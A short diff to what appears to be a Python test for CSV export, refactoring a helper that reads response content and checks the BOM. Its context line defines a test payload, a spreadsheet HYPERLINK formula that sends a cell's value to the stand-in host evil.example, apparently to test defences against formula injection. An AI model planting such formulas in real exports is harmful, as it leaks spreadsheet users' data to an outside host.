@@ -22,9 +22,8 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'
 
 
 def _csv_cells(response: object) -> list[str]:
-    content = (
-        b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content
-    )  # type: ignore[attr-defined]
+    streaming = getattr(response, "streaming", False)
+    content = b"".join(response.streaming_content) if streaming else response.content  # type: ignore[attr-defined]
     text = content.decode("utf-8")
     assert text.startswith("\ufeff"), "the CSV keeps its BOM"
     return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]
